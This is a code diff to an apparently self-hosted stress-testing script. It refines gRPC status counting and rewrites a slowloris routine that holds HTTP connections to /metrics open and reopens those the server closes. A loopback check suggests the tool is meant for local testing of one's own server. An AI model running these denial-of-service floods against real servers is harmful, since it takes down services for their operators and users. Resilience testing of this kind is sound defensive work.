@@ -292,7 +292,10 @@ def _receive(c, summary, answers):
         elif isinstance(event, h2.events.ConnectionTerminated):
             summary["goaways"] += 1
         elif isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
-            status = dict(event.headers).get("grpc-status")
+            fields = dict(event.headers)
+            status = fields.get("grpc-status")
+            if status is None and fields.get(":status", "200") != "200":
+                status = f"http {fields[':status']}"  # refused by a proxy, not gRPC
             if status is not None:
                 answers[status] = answers.get(status, 0) + 1
 
@@ -395,32 +398,42 @@ def continuation_flood(a):
 
 
 def metrics_slowloris(a):
-    """a.connections HTTP/1.1 requests to /metrics whose header lines come one
-    per connection every a.interval seconds and never end, until a.seconds
-    have passed."""
+    """Keeps a.connections HTTP/1.1 requests to /metrics open whose header
+    lines come one per connection every a.interval seconds and never end; a
+    connection the server closes is opened again (as a real slowloris does;
+    at most 50 reopenings per connection), until a.seconds have passed."""
     end = time.monotonic() + a.seconds
     raise_open_file_limit(a.connections + 64)
     check_loopback(a.host)
-    sockets, refused = [], 0
-    for _ in range(a.connections):
+    budget = 50 * a.connections
+    opened, refused, lines, closed, answered = 0, 0, 0, 0, 0
+
+    def open_one():
+        nonlocal opened, refused
+        opened += 1
         try:
             s = socket.create_connection((a.host, a.port), timeout=2)
             s.sendall(f"GET /metrics HTTP/1.1\r\nHost: {a.host}:{a.port}\r\n".encode())
-            sockets.append(s)
+            return s
         except OSError:
             refused += 1
-    lines, closed, answered, i = 0, set(), 0, 0
-    while time.monotonic() < end and len(closed) < len(sockets):
+            return None
+
+    sockets = [s for s in (open_one() for _ in range(a.connections)) if s is not None]
+    i = 0
+    while time.monotonic() < end:
         i += 1
+        alive = []
         for s in sockets:
-            if s in closed:
-                continue
             try:
                 s.sendall(f"X-Slow-{i}: {i}\r\n".encode())
                 lines += 1
+                alive.append(s)
             except OSError:
-                closed.add(s)
-        readable, _, _ = select.select([s for s in sockets if s not in closed], [], [],
+                closed += 1
+                s.close()
+        sockets = alive
+        readable, _, _ = select.select(sockets, [], [],
                                        max(0.0, min(a.interval, end - time.monotonic())))
         for s in readable:
             try:
@@ -429,11 +442,19 @@ def metrics_slowloris(a):
                 data = b""
             if data:
                 answered += 1
-            closed.add(s)
+            closed += 1
+            s.close()
+        sockets = [s for s in sockets if s not in readable]
+        while len(sockets) < a.connections and opened < budget and time.monotonic() < end:
+            s = open_one()
+            if s is None:
+                break
+            sockets.append(s)
     for s in sockets:
         s.close()
-    return {"connections": len(sockets), "refused": refused, "header_lines_sent": lines,
-            "answered_by_server": answered, "closed_by_server": len(closed)}
+    return {"connections": a.connections, "opened": opened, "refused": refused,
+            "header_lines_sent": lines, "answered_by_server": answered,
+            "closed_by_server": closed}
 
 
 def metrics_huge_headers(a):
